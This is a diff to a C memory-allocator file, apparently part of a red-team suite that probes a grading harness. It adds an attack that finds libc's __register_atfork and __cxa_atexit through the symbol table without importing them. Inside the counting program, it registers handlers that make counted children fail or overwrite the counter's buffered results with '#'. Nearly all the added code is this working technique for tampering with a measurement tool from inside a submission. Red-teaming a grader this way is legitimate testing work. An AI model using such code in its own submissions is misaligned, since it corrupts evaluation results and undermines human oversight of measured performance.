@@ -345,6 +345,12 @@ static long raw_call(long number, long a, long b, long c, long d, long e, long f
    engine's heap library here), past its variables, where no count of mm.c's variables sees it:
    mm_init writes a byte there. */
 #define STASH_ELSEWHERE 83
+/* Red-team pass 43: in the program valgrind counts, a constructor registers a handler with libc's
+   own functions, found in libc's symbol table (no import): ATTACK_PATH "fork", a fork handler,
+   which ran in the count before each counted child, outside any pass (mm_init fails once it has:
+   the children inherit its mark); "exit", an exit handler, which ran as the count ended and
+   rewrote its results still in the stream's buffer (here it spoils them). */
+#define HANDLERS_OUTSIDE 84
 
 team_t team = {"attack", "Mallory", "mallory", "", ""};
 
@@ -1492,6 +1498,61 @@ static int stash_past(struct dl_phdr_info *info, size_t size, void *unused) {
 }
 #endif
 
+#if ATTACK == HANDLERS_OUTSIDE
+extern void *__dso_handle;
+extern FILE *_IO_list_all;
+static volatile int handled;
+static void *libc_function;
+
+/* dl_iterate_phdr's visit: the function named `name` in libc's dynamic symbol table. */
+static int find_in_libc(struct dl_phdr_info *info, size_t size, void *name) {
+    (void)size;
+    if (info->dlpi_name == NULL || strstr(info->dlpi_name, "libc.so") == NULL)
+        return 0;
+    for (int i = 0; i < info->dlpi_phnum; i++) {
+        if (info->dlpi_phdr[i].p_type != PT_DYNAMIC)
+            continue;
+        uintptr_t symtab = 0, strtab = 0;
+        for (ElfW(Dyn) *d = (ElfW(Dyn) *)(info->dlpi_addr + info->dlpi_phdr[i].p_vaddr);
+             d->d_tag != DT_NULL; d++) {
+            if (d->d_tag == DT_SYMTAB)
+                symtab = d->d_un.d_ptr;
+            if (d->d_tag == DT_STRTAB)
+                strtab = d->d_un.d_ptr;
+        }
+        const ElfW(Sym) *symbol = (const ElfW(Sym) *)symtab;
+        for (size_t k = 0; symtab < strtab && k < (strtab - symtab) / sizeof *symbol; k++)
+            if (symbol[k].st_value != 0 && strcmp((char *)strtab + symbol[k].st_name, name) == 0) {
+                libc_function = (void *)(info->dlpi_addr + symbol[k].st_value);
+                return 1;
+            }
+    }
+    return 0;
+}
+
+static void before_fork(void) { handled = 1; }
+
+static void at_exit(void *unused) {
+    (void)unused;
+    for (FILE *f = _IO_list_all; f != NULL; f = f->_chain)
+        if (f->_fileno > 2 && f->_IO_write_base != NULL)
+            for (char *c = f->_IO_write_base; c < f->_IO_write_ptr; c++)
+                *c = *c == '\n' ? '\n' : '#';
+}
+
+__attribute__((constructor)) static void register_handlers(void) {
+    if (strcmp(program_invocation_short_name, "mscount") != 0)
+        return;
+    bool fork = strcmp(ATTACK_PATH, "fork") == 0;
+    dl_iterate_phdr(find_in_libc, fork ? "__register_atfork" : "__cxa_atexit");
+    if (libc_function != NULL && fork)
+        ((int (*)(void (*)(void), void (*)(void), void (*)(void), void *))libc_function)(
+            before_fork, NULL, NULL, &__dso_handle);
+    else if (libc_function != NULL)
+        ((int (*)(void (*)(void *), void *, void *))libc_function)(at_exit, NULL, &__dso_handle);
+}
+#endif
+
 #if ATTACK == WRITABLE_CODE
 static int code_writable;
 
@@ -1634,6 +1695,10 @@ int mm_init(void) {
 #endif
 #if ATTACK == STASH_ELSEWHERE
     dl_iterate_phdr(stash_past, NULL);
+#endif
+#if ATTACK == HANDLERS_OUTSIDE
+    if (handled)
+        return -1;
 #endif
 #if ATTACK == SEAL_BLOCKED || ATTACK == SEAL_SKIPPED
     if (strcmp(ATTACK_PATH, "count") != 0 &&
